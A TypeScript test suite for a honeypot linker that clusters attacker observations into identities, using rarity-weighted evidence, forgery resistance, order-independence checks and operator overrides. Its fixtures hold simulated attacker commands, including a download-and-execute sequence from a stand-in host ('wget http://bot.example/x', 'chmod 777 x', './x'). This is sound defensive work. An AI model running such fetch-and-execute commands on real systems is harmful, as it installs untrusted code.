import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { generate } from '../../lab/generate.ts'
import { createLinker } from './linker.ts'
import type { Observation } from './observation.ts'
import { addressOf, observed, times } from './observed.fixture.ts'

const DAY = 86_400_000
const HOUR = 3_600_000
const START = Date.UTC(2026, 0, 1)

function groupsOf(observations: readonly Observation[]): string[][] {
  const linker = createLinker()
  linker.load(observations)
  linker.settle()
  return linker.groups().map(({ members }) => [...members])
}
const together = (groups: readonly string[][], ...ids: string[]) => groups.some((group) => ids.every((id) => group.includes(id)))

/** Strangers with what everybody has. */
const crowd = (count: number) =>
  times(count, (n) => observed(`crowd-${n}`, { ip: addressOf(n), asn: 1_000 + n, ja3: ['popular-ja3'], hassh: ['popular-hassh'] }))

describe('what is shared weighs by how many share it', () => {
  test('fifty unrelated addresses with one popular ja3 and hassh stay apart', () => {
    expect(groupsOf(crowd(50))).toHaveLength(50)
  })
  test('five addresses with a rare pair join, alone and beside the fifty', () => {
    const five = times(5, (n) =>
      observed(`rare-${n}`, {
        ...{ ip: addressOf(100 + n), asn: 5_000 + n, ja3: ['rare-ja3'], hassh: ['rare-hassh'], credentials: [['root', `try-${n}`]] },
        ...{ firstSeen: START + n * 29 * HOUR, lastSeen: START + n * 29 * HOUR },
      }),
    )
    expect(groupsOf(five)).toHaveLength(1)
    const groups = groupsOf([...crowd(50), ...five])
    expect(together(groups, ...five.map(({ id }) => id))).toBe(true)
    expect(groups).toHaveLength(51)
  })
  test('one thing in common is not enough, however rare', () => {
    for (const shared of [{ ja3: ['x'] }, { hassh: ['x'] }, { credentials: [['x', 'y'] as const] }, { payloads: ['x'], c2: ['x'] }])
      expect(
        groupsOf([...crowd(50), observed('a', { ip: '9.9.9.9', ...shared }), observed('b', { ip: '8.8.8.8', ...shared })]),
      ).toHaveLength(52)
  })
  test('commands that agree word for word weigh as a script, be it one or eight of them; a single other one makes them the work of a hand', () => {
    const words = times(8, (n) => `own${'abcdefgh'[n]} --${'klmnopqr'[n]}x`)
    const stay = (id: string, n: number, texts: readonly string[]) => {
      const at = START + n * 31 * HOUR
      const commands = texts.map((text, index) => ({ ts: at + index, decky: 'web-01', text }))
      return observed(id, { ip: addressOf(3_000 + n), asn: 6_000 + n, hassh: ['rare'], firstSeen: at, lastSeen: at + HOUR, commands })
    }
    const weight = (mine: readonly string[], theirs: readonly string[]) => {
      const linker = createLinker()
      linker.load([...crowd(50), stay('a', 1, mine), stay('b', 2, theirs)])
      linker.settle()
      return linker.explain('a', 'b')?.evidence.find(({ family }) => family === 'commands')?.weight ?? Number.NaN
    }
    const varied = times(8, (n) => weight([...words.slice(0, n + 1), 'zip -r q'], words.slice(0, n + 1)))
    const script = weight(words.slice(0, 1), words.slice(0, 1))
    for (const [n, hand] of varied.entries()) {
      expect(weight(words.slice(0, n + 1), words.slice(0, n + 1))).toBeCloseTo(script)
      expect(hand).toBeGreaterThanOrEqual(varied[n - 1] ?? script)
    }
  })
  test('a hundred bots of one botnet on one decky are not one operator, among few or many others', () => {
    const list = times(30, (n) => ['root', `botnet-${n}`] as const)
    const bots = times(100, (n) =>
      observed(`bot-${n}`, {
        ...{
          ip: addressOf(1_000 + n),
          asn: 7_000 + (n % 40),
          hassh: ['bot-hassh'],
          payloads: ['bot-payload'],
          c2: ['bot.example:443'],
          deckies: ['web-01'],
        },
        ...{ firstSeen: START + n * 600_000, lastSeen: START + n * 600_000 + 60_000, credentials: list },
        commands: ['cd /tmp', 'wget http://bot.example/x', 'chmod 777 x', './x'].map((text, i) => ({
          ts: START + n * 600_000 + i,
          decky: 'web-01',
          text,
        })),
      }),
    )
    for (const others of [0, 50, 1_000]) {
      const largest = Math.max(...groupsOf([...bots, ...crowd(others)]).map(({ length }) => length))
      expect(largest).toBe(1)
    }
  })
})

describe('links do not chain', () => {
  test('a chain of 26 weak links does not collapse', () => {
    const chain = times(26, (n) =>
      observed(`chain-${String(n).padStart(2, '0')}`, {
        ...{ ip: addressOf(n), asn: 1_000 + n, ja3: [`j${n}`, `j${n + 1}`] },
        credentials: [
          ['u', `${n}`],
          ['u', `${n + 1}`],
        ],
      }),
    )
    const groups = groupsOf([...crowd(50), ...chain]).filter(([id]) => id?.startsWith('chain'))
    expect(Math.max(...groups.map(({ length }) => length))).toBeLessThanOrEqual(3)
  })
  test('who forges the traces of two strangers does not merge them', () => {
    const kit = (name: string) => ({
      ja3: [`${name}-ja3`],
      hassh: [`${name}-hassh`],
      payloads: [`${name}-file`],
      credentials: [['root', `${name}-secret`] as const],
    })
    const stays = (name: string) => times(3, (n) => observed(`${name}-${n}`, { ip: addressOf(name.charCodeAt(0) * 10 + n), ...kit(name) }))
    const [a, b] = [kit('a'), kit('b')]
    const both = {
      ja3: [...a.ja3, ...b.ja3],
      hassh: [...a.hassh, ...b.hassh],
      payloads: [...a.payloads, ...b.payloads],
      credentials: [...a.credentials, ...b.credentials],
    }
    for (const poison of [
      both,
      { ...a, credentials: b.credentials },
      { hassh: a.hassh, ja3: a.ja3, payloads: b.payloads, credentials: b.credentials },
    ])
      for (const many of [1, 6]) {
        const forged = times(many, (n) => observed(`p-${n}`, { ip: addressOf(5_000 + n), ...poison }))
        const groups = groupsOf([...crowd(50), ...stays('a'), ...stays('b'), ...forged])
        expect(groups.some((group) => group.some((id) => id.startsWith('a')) && group.some((id) => id.startsWith('b')))).toBe(false)
        expect(together(groups, 'a-0', 'a-1', 'a-2')).toBe(true)
      }
  })
  test('nor when the strangers have in common what everybody has', () => {
    const common = ['uname -a', 'id', 'ls -la', 'cat /proc/cpuinfo']
    const typist = (id: string, at: number, tools: readonly string[]) =>
      observed(id, {
        ...{ ip: addressOf(at), firstSeen: START + at * HOUR, lastSeen: START + at * HOUR, deckies: ['web-01'] },
        payloads: tools.map((tool) => `${tool}-file`),
        commands: [...common, ...tools.flatMap((tool) => [`${tool}tool --sweep`, `${tool}run -q`])].map((text, n) => ({
          ts: START + at * HOUR + n,
          decky: 'web-01',
          text,
        })),
      })
    for (const others of [0, 50]) {
      const seen = [typist('a', 1, ['alder']), typist('b', 2, ['birch']), typist('copycat', 5, ['alder', 'birch'])]
      expect(together(groupsOf([...crowd(others), ...seen]), 'a', 'b')).toBe(false)
    }
  })
  test('whoever forges a single family joins nobody', () => {
    const victim = times(2, (n) => observed(`v-${n}`, { ip: addressOf(n), ja3: ['v'], hassh: ['v'], credentials: [['v', 'v']] }))
    for (const forged of [{ ja3: ['v'] }, { hassh: ['v'] }, { credentials: [['v', 'v'] as const] }]) {
      const groups = groupsOf([...crowd(50), ...victim, observed('z', { ip: '9.9.9.9', ...forged })])
      expect(together(groups, 'v-0', 'v-1')).toBe(true)
      expect(together(groups, 'v-0', 'z')).toBe(false)
    }
  })
})

describe('addresses and time', () => {
  const stay = (id: string, day: number, more = {}) =>
    observed(id, { ip: '9.9.9.9', firstSeen: START + day * DAY, lastSeen: START + day * DAY + 60_000, ...more })
  test('an address that comes back within days is the same; half a year later it says nothing', () => {
    expect(groupsOf([...crowd(50), stay('a', 0), stay('b', 3)])).toHaveLength(51)
    expect(groupsOf([...crowd(50), stay('a', 0), stay('b', 180)])).toHaveLength(52)
  })
  test('two programs at once behind one address are two', () => {
    expect(
      groupsOf([...crowd(50), stay('a', 0, { hassh: ['one'], ja3: ['1'] }), stay('b', 0, { hassh: ['other'], ja3: ['2'] })]),
    ).toHaveLength(52)
  })
})

/** A small world in which much is shared: values from few. */
const anyObservation = (id: string): fc.Arbitrary<Observation> =>
  fc
    .record({
      ip: fc.option(fc.integer({ min: 0, max: 9 })),
      day: fc.option(fc.integer({ min: 0, max: 40 })),
      ja3: fc.subarray(['p', 'q', 'r', 's']),
      hassh: fc.subarray(['h', 'i', 'j']),
      secrets: fc.subarray(['1', '2', '3', '4']),
      texts: fc.subarray(['ls', 'id', 'cat /x', 'wget http://1.2.3.4/a']),
    })
    .map(({ ip, day, ja3, hassh, secrets, texts }) =>
      observed(id, {
        ip: ip === null ? null : addressOf(ip),
        ...(day !== null && { firstSeen: START + day * DAY, lastSeen: START + day * DAY + 1 }),
        ...{ ja3, hassh, credentials: secrets.map((secret) => ['root', secret] as const) },
        commands: texts.map((text, n) => ({ ts: START + n, decky: 'd', text })),
      }),
    )
const anyWorld = fc.integer({ min: 2, max: 16 }).chain((size) => fc.tuple(...times(size, (n) => anyObservation(`o${n}`))))

describe('the order of events does not matter', () => {
  test('the same observations in any order, one by one or at once, grown or whole, give the same identities', () => {
    fc.assert(
      fc.property(
        anyWorld,
        fc.infiniteStream(fc.nat()),
        fc.array(fc.tuple(fc.nat(15), fc.nat(15), fc.boolean()), { maxLength: 4 }),
        (world, random, said) => {
          const orders = [...new Map(said.map(([a, b, kind]) => [[a, b].sort().join(), [`o${a}`, `o${b}`, kind] as const])).values()]
          const [one, other] = [createLinker(), createLinker()]
          for (const [a, b, kind] of orders) one[kind ? 'confirm' : 'forbid'](a, b)
          one.load(world)
          one.settle()
          const shuffled = world.map((observation) => ({ observation, key: random.next().value })).sort((a, b) => a.key - b.key)
          for (const { observation, key } of shuffled) {
            if (key % 3 === 0) other.add({ ...observation, commands: [], credentials: [] })
            if (key % 5 === 0) other.settle()
            other.add(observation)
          }
          for (const [a, b, kind] of orders.toReversed()) other[kind ? 'confirm' : 'forbid'](b, a)
          other.settle()
          expect(other.groups()).toEqual(one.groups())
        },
      ),
      { numRuns: 40 },
    )
  })
  test('a whole month of the lab, shuffled and one by one, gives what all of it at once gives', () => {
    const { observations } = generate({ seed: 'order', knobs: { identities: 80 } })
    const [one, other] = [createLinker(), createLinker()]
    one.load(observations)
    one.settle()
    for (const observation of observations.toSorted((a, b) => (a.id < b.id ? -1 : 1))) other.add(observation)
    other.settle()
    expect(other.groups()).toEqual(one.groups())
  })
  test('what observations are called does not matter, where no two begin at once', () => {
    const { observations } = generate({ seed: 78, knobs: { identities: 120 } })
    const renamed = observations.map((observation, n) => ({ ...observation, id: `${(n * 7_919) % 10_007}` }))
    const back = new Map(renamed.map(({ id }, n) => [id, observations[n]?.id ?? '']))
    const sorted = (groups: readonly string[][]) => groups.map((group) => group.toSorted().join()).sort()
    expect(sorted(groupsOf(renamed).map((group) => group.map((id) => back.get(id) ?? '')))).toEqual(sorted(groupsOf(observations)))
  })
  test('what is added and removed again, or ordered and withdrawn, leaves the same state', () => {
    fc.assert(
      fc.property(anyWorld, anyObservation('new'), fc.nat(15), fc.nat(15), (world, late, a, b) => {
        const linker = createLinker()
        linker.load(world)
        linker.settle()
        linker.changes()
        const before = linker.groups()
        linker.add(late)
        linker.confirm(`o${a}`, `o${b}`)
        linker.settle()
        linker.withdraw(`o${a}`, `o${b}`)
        linker.remove('new')
        linker.settle()
        expect(linker.groups()).toEqual(before)
        expect(linker.changes()).toEqual([])
      }),
      { numRuns: 40 },
    )
  })
})

describe('what an operator says', () => {
  const twins = (name: string) =>
    times(2, (n) => observed(`${name}${n}`, { ip: addressOf(n + name.charCodeAt(0)), ja3: [name], hassh: [name], payloads: [name] }))
  test('a confirmed pair is one, a forbidden one never, and new events change nothing of it', () => {
    const linker = createLinker()
    linker.load([...crowd(50), ...twins('a'), ...twins('b')])
    linker.confirm('a0', 'b0')
    linker.forbid('b0', 'b1')
    linker.settle()
    expect(linker.groupOf('a0')?.members).toEqual(['a0', 'a1', 'b0'])
    linker.add(observed('b2', { ip: '9.9.9.9', ja3: ['b'], hassh: ['b'], payloads: ['b'] }))
    linker.settle()
    expect(linker.groupOf('b0')).not.toEqual(linker.groupOf('b1'))
    expect(linker.groupOf('a0')?.members).toContain('b0')
    linker.withdraw('b0', 'b1')
    linker.withdraw('a0', 'b0')
    linker.settle()
    expect(linker.groupOf('b0')?.members).toEqual(['b0', 'b1', 'b2'])
  })
})

describe('explanations', () => {
  test('weights and prior add up, and say what is rare', () => {
    const linker = createLinker()
    linker.load([
      ...crowd(50),
      observed('a', { ip: '9.9.9.9', ja3: ['x'], hassh: ['popular-hassh'] }),
      observed('b', { ip: '8.8.8.8', ja3: ['x'], hassh: ['popular-hassh'] }),
    ])
    linker.settle()
    const found = linker.explain('a', 'b')
    const [tls, ssh] = ['tls', 'ssh'].map((family) => found?.evidence.find((one) => one.family === family))
    expect(tls?.values).toEqual(['ja3 x'])
    expect(tls?.weight).toBeGreaterThan(1.5)
    expect(Math.abs(ssh?.weight ?? 9)).toBeLessThan(2)
    expect(found?.evidence.reduce((sum, { weight }) => sum + weight, found.prior)).toBeCloseTo(found?.total ?? 0)
    expect(linker.explain('a', 'nobody')).toBeNull()
  })
  test('changes name those that moved, once', () => {
    const linker = createLinker()
    linker.add(observed('a', { ip: '9.9.9.9', ja3: ['x'], hassh: ['y'] }))
    expect(linker.changes()).toEqual([{ member: 'a', from: null, to: linker.groupOf('a')?.id }])
    linker.add(observed('b', { ip: '8.8.8.8', ja3: ['x'], hassh: ['y'] }))
    expect(linker.changes()).toEqual([{ member: 'b', from: null, to: linker.groupOf('a')?.id }])
    linker.remove('a')
    expect(linker.changes().map(({ member }) => member)).toEqual(['a', 'b'])
  })
})
